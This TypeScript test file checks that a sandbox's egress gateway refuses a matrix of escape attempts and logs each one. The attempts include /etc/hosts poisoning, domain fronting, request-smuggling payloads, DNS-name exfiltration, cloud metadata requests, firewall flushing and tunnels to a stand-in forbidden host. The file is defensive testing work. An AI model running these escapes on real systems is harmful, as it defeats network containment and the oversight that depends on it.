/**
 * Ways around an egress list, each a row of the matrix that other products'
 * advisories, issues and test suites make up. All run as root in a sandbox.
 */

import { gateway } from "../gateway-rules.ts";

/** An address of a host that no rule allows; it answers everybody. */
export const forbidden = "203.0.113.20";

export interface Row {
  readonly number: number;
  readonly attempt: string;
  /** Shell in the sandbox. `other` is another sandbox's address. */
  readonly run: (other: string) => string;
  /** What each line of the output has to be: an application's own "no". */
  readonly denied: RegExp;
  /** Rows of the gateway's log, as `by wanted reason`; each must be there. */
  readonly logged: readonly RegExp[];
  /** What is different about trying it here, or why no row is left. */
  readonly note?: string;
}

/** Prints the status, or curl's own error. */
const curl = "curl -sS -k --max-time 4 -o /dev/null -w '%{http_code}\\n'";
const quiet = "2>&1 | grep -v '^000$'";
/** curl's own words for a connection that was not to be. */
const unreached =
  /^curl: \((6|7|28|35|52|56)\)|Could not resolve|refused|timed out|unreachable/;
const denial = /^403$|"egress_denied"/;
const toForbidden = /^firewall 203\.0\.113\.20 tcp \d+ /;
const mark = `b${crypto.randomUUID().slice(0, 8)}`;

/** One line for each command, whatever it prints besides. */
const each = (commands: readonly string[]) =>
  commands
    .map(
      (command) =>
        `(${command}) 2>&1 | tr -d '\\r' | grep -v '^000$' | tail -n 1`,
    )
    .join("\n");

/** Sends bytes by TCP, and prints what comes back in hexadecimal, or "nothing". */
const bytes = (text: string, port = 443) =>
  `got=$(printf '${text}' | timeout 4 nc -w 3 ${gateway} ${String(port)} | head -c 5 | od -An -tx1 | tr -d ' \\n'); echo "\${got:-nothing}"`;

/** Says bytes inside TLS to an inspected host, and prints the statuses. */
const spoken = (text: string) =>
  `(printf '${text}'; sleep 1.5) | timeout 6 openssl s_client -quiet -connect ${gateway}:443 -servername openrouter.ai 2>/dev/null | tr -d '\\r' | grep -ao 'HTTP/1.[01] [0-9]*' | cut -d ' ' -f 2 | tr '\\n' ' '; echo`;

/** A packet of a protocol that has no ports. */
const rawPacket = (protocol: number) =>
  `python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_RAW, ${String(protocol)}); s.settimeout(2); s.sendto(b"x"*64, ("${forbidden}", 0)); s.recvfrom(99)' 2>&1 | tail -n 1`;

export const rows: readonly Row[] = [
  {
    number: 1,
    attempt: "no proxy in the environment",
    run: () =>
      `unset HTTPS_PROXY https_proxy ALL_PROXY; ${curl} https://example.org/ ${quiet}`,
    denied: /Could not resolve/,
    logged: [/^resolver example\.org A name_not_allowed/],
  },
  {
    number: 2,
    attempt: "another proxy, or none, by curl's options",
    run: () =>
      each([
        `NO_PROXY='*' ALL_PROXY=http://${forbidden}:8080 ${curl} --noproxy '*' https://example.org/`,
        `${curl} --connect-to example.org:443:${forbidden}:443 https://example.org/`,
        `HTTPS_PROXY=http://${forbidden}:8080 ${curl} https://api.github.com/zen`,
      ]),
    denied: unreached,
    logged: [toForbidden, /^firewall 203\.0\.113\.20 tcp 8080 /],
  },
  {
    number: 3,
    attempt: "a client that dials by itself",
    run: () =>
      each([
        `node -e 'require("https").get({host:"${forbidden}",servername:"example.org",rejectUnauthorized:false,agent:false},()=>console.log("reached")).on("error",e=>console.log(e.code))'`,
        `python3 -c 'import socket; socket.create_connection(("${forbidden}",443),4)'`,
      ]),
    denied: /ECONNREFUSED|ECONNRESET|ConnectionRefusedError|refused/,
    logged: [toForbidden],
  },
  {
    number: 4,
    attempt: "an address, without a name",
    run: () =>
      each([`${curl} https://${forbidden}/`, `${curl} https://${gateway}/`]),
    denied: unreached,
    logged: [toForbidden, /^proxy {2}no_name/],
  },
  {
    number: 5,
    attempt: "an address in another spelling",
    run: () =>
      each([
        ...["3405803796", "0xCB007114", "0313.0.0161.024", "203.0.28948"].map(
          (spelling) => `${curl} https://${spelling}/`,
        ),
        `${curl} -H 'Host: 3405803796' https://openrouter.ai/api/v1/echo`,
      ]),
    denied: new RegExp(`${unreached.source}|${denial.source}`),
    logged: [toForbidden, /^proxy GET 3405803796\S* host_mismatch/],
  },
  {
    number: 6,
    attempt: "an allowed name at an attacker's address",
    run: () =>
      `${curl} --resolve api.github.com:443:${forbidden} https://api.github.com/ ${quiet}`,
    denied: unreached,
    logged: [toForbidden],
  },
  {
    number: 7,
    attempt: "the same by /etc/hosts",
    run: () =>
      `cp /etc/hosts /tmp/hosts; echo '${forbidden} api.anthropic.com' >>/etc/hosts; ${curl} https://api.anthropic.com/ ${quiet}; cat /tmp/hosts >/etc/hosts`,
    denied: unreached,
    logged: [toForbidden],
  },
  {
    number: 8,
    attempt: "CONNECT to an allowed host, another name inside",
    run: () =>
      each([
        bytes(
          "CONNECT api.github.com:443 HTTP/1.1\\r\\nHost: api.github.com:443\\r\\n\\r\\n",
        ),
        `${curl} -x http://${gateway}:80 https://example.org/`,
      ]),
    denied: /^nothing$|CONNECT tunnel failed, response 403/,
    logged: [/^proxy {2}not_tls/, /^proxy CONNECT \S* plain_http/],
  },
  {
    number: 9,
    attempt: "domain fronting",
    run: () =>
      each(
        ["", "--http1.1"].map(
          (version) =>
            `${curl} ${version} -H 'Host: example.org' https://openrouter.ai/api/v1/models`,
        ),
      ),
    denied: denial,
    logged: [/^proxy GET example\.org\S* host_mismatch/],
  },
  {
    number: 10,
    attempt: "another host in the second request of a connection",
    run: () =>
      spoken(
        "GET /api/v1/models HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\nGET /api/v1/models HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n",
      ),
    denied: /^200 403 $/,
    logged: [/^proxy GET example\.com\S* host_mismatch/],
  },
  {
    number: 15,
    attempt: "other protocols on 443",
    run: () =>
      each([bytes("SSH-2.0-OpenSSH_9.9\\r\\n"), bytes("\\0\\0\\0\\0\\0\\0")]),
    denied: /^nothing$/,
    logged: [/^proxy {2}not_tls/],
  },
  {
    number: 16,
    attempt: "an allowed host without TLS",
    run: () => `${curl} -H 'Authorization: Bearer x' http://api.github.com/zen`,
    denied: denial,
    logged: [/^proxy GET api\.github\.com\/zen plain_http/],
  },
  {
    number: 17,
    attempt: "other ports of an allowed host",
    run: () =>
      each(
        ["22", "8443", "25"].map((port) => `nc -zvw 3 api.github.com ${port}`),
      ),
    denied: /refused/,
    logged: ["22", "8443", "25"].map(
      (port) => new RegExp(`^firewall 169\\.254\\.20\\.1 tcp ${port} `),
    ),
  },
  {
    number: 18,
    attempt: "QUIC",
    run: () =>
      each(
        [gateway, "203.0.113.12"].map(
          (host) => `echo x | nc -u -w 1 ${host} 443; echo "no answer"`,
        ),
      ),
    denied: /^no answer$/,
    logged: [
      /^firewall 169\.254\.20\.1 udp 443 /,
      /^firewall 203\.0\.113\.12 udp 443 /,
    ],
  },
  {
    number: 19,
    attempt: "IPv6, mapped and translated addresses",
    run: () =>
      each(
        ["2001:db8:203::20", `::ffff:${forbidden}`, "64:ff9b::cb00:7114"].map(
          (address) => `${curl} -g 'https://[${address}]/'`,
        ),
      ),
    denied: unreached,
    logged: [toForbidden],
    note: "a sandbox has no IPv6 of its own: without a neighbour nothing leaves it, so only the mapped one leaves a row",
  },
  {
    number: 20,
    attempt: "data in names, by the given resolver",
    run: () =>
      each(
        [
          `dig +time=2 +tries=1 ${mark}.example.org TXT`,
          `dig +tcp +time=2 +tries=1 ${mark}.example.org`,
        ].map((dig) => `${dig} | grep -o 'status: [A-Z]*'`),
      ),
    denied: /status: REFUSED/,
    logged: [new RegExp(`^resolver ${mark}\\.example\\.org TXT `)],
  },
  {
    number: 21,
    attempt: "resolvers outside",
    run: () =>
      each(
        ["8.8.8.8", "1.1.1.1"].flatMap((resolver) =>
          ["+notcp", "+tcp"].map(
            (how) =>
              `dig ${how} +time=1 +tries=1 @${resolver} ${mark}.example.org`,
          ),
        ),
      ),
    denied: /no servers|refused|timed out|unreachable/,
    logged: [
      /^firewall 8\.8\.8\.8 udp 53 /,
      /^firewall 8\.8\.8\.8 tcp 53 /,
      /^firewall 1\.1\.1\.1 udp 53 /,
    ],
  },
  {
    number: 22,
    attempt: "the gateway's own resolver, and whom it asks",
    run: () =>
      each([
        `dig -p 5353 +time=1 +tries=1 @${gateway} ${mark}.example.org`,
        `dig +time=1 +tries=1 @198.18.0.2 ${mark}.example.org`,
        `dig +time=1 +tries=1 @198.18.0.3 ${mark}.example.org`,
      ]),
    denied: /no servers|refused|timed out|unreachable/,
    logged: [
      /^firewall 169\.254\.20\.1 udp 5353 /,
      /^firewall 198\.18\.0\.2 udp 53 /,
      /^firewall 198\.18\.0\.3 udp 53 /,
    ],
  },
  {
    number: 23,
    attempt: "DNS over TLS, QUIC and HTTPS",
    run: () =>
      each([
        "nc -zvw 3 8.8.8.8 853",
        "echo x | nc -u -w 1 8.8.8.8 853; echo refused",
        `${curl} https://8.8.8.8/dns-query`,
        `${curl} https://dns.google/dns-query`,
      ]),
    denied: unreached,
    logged: [
      /^firewall 8\.8\.8\.8 tcp 853 /,
      /^firewall 8\.8\.8\.8 udp 853 /,
      /^firewall 8\.8\.8\.8 tcp 443 /,
      /^resolver dns\.google A /,
    ],
  },
  {
    number: 24,
    attempt: "data in names below an allowed one",
    run: () =>
      `dig +time=2 +tries=1 ${mark}.api.github.com | grep -o 'status: [A-Z]*'`,
    denied: /status: NXDOMAIN/,
    logged: [
      new RegExp(`^resolver ${mark}\\.api\\.github\\.com A name_not_allowed`),
    ],
  },
  {
    number: 25,
    attempt: "other types of an allowed name",
    run: () =>
      each([
        ...["TXT", "NULL", "ANY", "HTTPS", "SVCB", "MX"].map(
          (type) =>
            `dig +time=2 +tries=1 api.github.com ${type} | grep -o 'ANSWER: [0-9]*'`,
        ),
        "dig +time=2 +tries=1 api.github.com AXFR | grep -io 'transfer failed'",
      ]),
    denied: /^ANSWER: 0$|Transfer failed/,
    logged: [
      /^resolver api\.github\.com TXT type_not_answered/,
      /^resolver api\.github\.com HTTPS type_not_answered/,
    ],
  },
  {
    number: 27,
    attempt: "the cloud's metadata",
    run: () =>
      each([
        `${curl} -H 'Metadata: true' http://169.254.169.254/latest/meta-data/`,
        `${curl} -g 'http://[fd00:ec2::254]/latest/meta-data/'`,
        `${curl} http://metadata.google.internal/`,
      ]),
    denied: unreached,
    logged: [
      /^firewall 169\.254\.169\.254 tcp 80 /,
      /^resolver metadata\.google\.internal A /,
    ],
    note: "there is no cloud here; the addresses are tried on the runner, where a cloud's would be reached",
  },
  {
    number: 28,
    attempt: "neighbours: sandboxes, Daytona, the machine's own ports",
    run: (other) =>
      each([
        ...[
          `${other}:3000`,
          `${other}:2280`,
          "172.20.0.1:3000",
          "198.18.0.3:3000",
          "198.18.0.3:4000",
          `${gateway}:8404`,
        ].map((place) => `${curl} http://${place}/`),
        `nc -zvw 3 ${gateway} 22`,
      ]),
    denied: unreached,
    logged: [
      /^firewall 198\.18\.0\.3 tcp 4000 /,
      /^firewall 172\.20\.0\.1 tcp 3000 /,
      /^firewall 169\.254\.20\.1 tcp 8404 /,
    ],
  },
  {
    number: 29,
    attempt: "back in by the edge's front door",
    run: () =>
      `${curl} --resolve '*:443:198.18.0.4' https://83792513-cd9e-428f-99c0-63c63bc7739c-3000.sandbox.daytona.defikit.net/ ${quiet}`,
    denied: unreached,
    logged: [/^firewall 198\.18\.0\.4 tcp 443 /],
  },
  {
    number: 30,
    attempt: "paths that mean another",
    run: () =>
      each(
        [
          "/api/v1/../v0/echo",
          "/api/v1/%2e%2e/v0/echo",
          "/api/v1/..%2fv0/echo",
          "/api/v1/..;/v0/echo",
          "/api/v1/..%5cv0",
          "/api/v1/%00",
          "/api/v1/%252e%252e/v0",
          "/api//v1/../../credits",
          "/API/v1/echo",
          "/api/v1",
          "/",
        ].map((path) => `${curl} --path-as-is 'https://openrouter.ai${path}'`),
      ),
    denied: denial,
    logged: [
      /^proxy GET openrouter\.ai\/api\/v0\/echo path_not_allowed/,
      /path_not_canonical/,
    ],
  },
  {
    number: 31,
    attempt: "a proxy's forms of request, inside",
    run: () =>
      each([
        `${curl} --http1.1 --request-target http://example.org/ https://openrouter.ai/`,
        `${curl} --http1.1 -X CONNECT --request-target example.org:443 https://openrouter.ai/`,
        `${curl} -X TRACE https://openrouter.ai/api/v1/models`,
      ]),
    denied: /^40[03]$/,
    logged: [/^proxy TRACE openrouter\.ai\S* method/],
  },
  {
    number: 32,
    attempt: "a second request hidden in the first",
    run: () =>
      each(
        [
          "POST /api/v1/echo HTTP/1.1\\r\\nHost: openrouter.ai\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\n",
          "POST /api/v1/echo HTTP/1.1\\r\\nHost: openrouter.ai\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\n",
          "POST /api/v1/echo HTTP/1.1\\nHost: openrouter.ai\\nContent-Length: 0\\n\\nGET /smuggled HTTP/1.1\\nHost: openrouter.ai\\n\\n",
          "POST /api/v1/echo HTTP/1.1\\r\\nHost: openrouter.ai\\r\\nContent-Length: 1\\r\\nContent-Length: 99\\r\\n\\r\\nxGET /smuggled HTTP/1.1\\r\\nHost: openrouter.ai\\r\\n\\r\\n",
        ].map(spoken),
      ),
    // Each is one request at most, and what comes behind is judged by itself.
    denied: /^((200|400|403|501) )*$/,
    logged: [/^proxy GET openrouter\.ai\/smuggled path_not_allowed/],
  },
  {
    number: 33,
    attempt: "an upgrade, and then anything",
    run: () =>
      each(
        ["websocket", "h2c", "raw"].map(
          (protocol) =>
            `${curl} --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: ${protocol}' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' https://openrouter.ai/api/v1/ws`,
        ),
      ),
    denied: denial,
    logged: [/^proxy GET openrouter\.ai\/api\/v1\/ws upgrade/],
  },
  {
    number: 34,
    attempt: "headers that mean another path or method",
    run: () =>
      "curl -sS -H 'X-Original-URL: /smuggled' -H 'X-Rewrite-URL: /smuggled' -H 'X-HTTP-Method-Override: DELETE' -H 'X-Forwarded-Host: example.org' https://openrouter.ai/api/v1/echo | grep -ciE 'smuggled|delete|example.org'",
    denied: /^0$/,
    logged: [],
    note: "the request is allowed and arrives without them",
  },
  {
    number: 35,
    attempt: "a redirect of an allowed host",
    run: () =>
      "curl -sSL --max-time 4 'https://openrouter.ai/api/v1/echo?redirect=https://example.org/' 2>&1 | grep -o 'Could not resolve host: example.org'",
    denied: /Could not resolve/,
    logged: [/^resolver example\.org A /],
  },
  {
    number: 39,
    attempt: "a client that trusts nobody, or one key only",
    run: () =>
      [
        "--cacert /usr/share/ca-certificates/mozilla/ISRG_Root_X1.crt --capath /nowhere",
        "--pinnedpubkey sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
      ]
        .map(
          (trust) =>
            `curl -sS --max-time 4 ${trust} https://openrouter.ai/api/v1/models 2>&1 | head -n 1`,
        )
        .join("\n"),
    denied: /^curl: \((60|77|90)\)/,
    logged: [],
    note: "the client refuses, not the gateway: its row is of the handshake that failed",
  },
  {
    number: 40,
    attempt: "protocols without ports, and another's address",
    run: () =>
      each([
        `ping -c 1 -W 2 ${forbidden} | grep -o '[0-9]* received'`,
        ...[47, 132, 50].map(rawPacket),
        `ip address add 10.9.9.9/32 dev eth0; ${curl} --interface 10.9.9.9 http://${gateway}/ca.pem; ip address del 10.9.9.9/32 dev eth0`,
      ]),
    denied:
      /^0 received$|[Tt]imed? ?out|No route|prohibited|Permission|refused|^curl: \((7|28)\)/,
    logged: [
      /^firewall 203\.0\.113\.20 icmp /,
      /^firewall 203\.0\.113\.20 protocol 47 /,
    ],
  },
  {
    number: 41,
    attempt: "root changes its own firewall and routes",
    run: () =>
      `nft flush ruleset; ip route replace ${forbidden}/32 via 172.20.0.1; ${curl} https://${forbidden}/ ${quiet}; ip route del ${forbidden}/32`,
    denied: unreached,
    logged: [toForbidden],
  },
  {
    number: 42,
    attempt: "a network inside the sandbox, a tunnel out of it",
    run: () =>
      [
        "ip netns add inner; ip link add v0 type veth peer name v1 netns inner; ip address add 10.77.0.1/24 dev v0; ip link set v0 up",
        "ip -n inner address add 10.77.0.2/24 dev v1; ip -n inner link set v1 up; ip -n inner route add default via 10.77.0.1",
        "sysctl -qw net.ipv4.ip_forward=1; nft 'table ip inner { chain c { type nat hook postrouting priority 100; ip saddr 10.77.0.0/24 masquerade; }; }'",
        `ip netns exec inner ${curl} https://${forbidden}/ ${quiet}`,
        "nft delete table ip inner; ip netns del inner",
        "echo x | nc -u -w 1 203.0.113.20 51820; echo refused",
      ].join("\n"),
    denied: unreached,
    logged: [toForbidden, /^firewall 203\.0\.113\.20 udp 51820 /],
  },
  {
    number: 47,
    attempt: "names that look like an allowed one",
    run: () =>
      each(
        [
          "evilapi.github.com",
          "api.github.com.example.org",
          "xopenrouter.ai",
        ].map(
          (name) => `${curl} --resolve ${name}:443:${gateway} https://${name}/`,
        ),
      ),
    denied: unreached,
    logged: [
      /^proxy evilapi\.github\.com host_not_allowed/,
      /^proxy api\.github\.com\.example\.org host_not_allowed/,
    ],
  },
];
